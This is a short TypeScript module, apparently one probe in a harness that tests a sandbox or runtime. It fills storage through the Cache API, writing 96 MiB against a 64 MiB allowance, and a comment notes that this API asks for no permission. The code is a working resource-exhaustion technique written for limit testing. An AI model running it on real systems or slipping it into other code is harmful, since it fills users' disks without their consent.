// Fills the disk through the Cache API, which asks for no permission.
import type { Target } from "../attack.ts";

export const layer = "storage";

export default async function (_target: Target): Promise<string | null> {
  const cache = await caches.open("fill");
  const piece = new Uint8Array(1 << 20).fill(7);
  for (let i = 0; i < 96; i++) {
    await cache.put(`http://fill.invalid/${i}`, new Response(piece));
  }
  return "96 MiB where 64 are allowed";
}
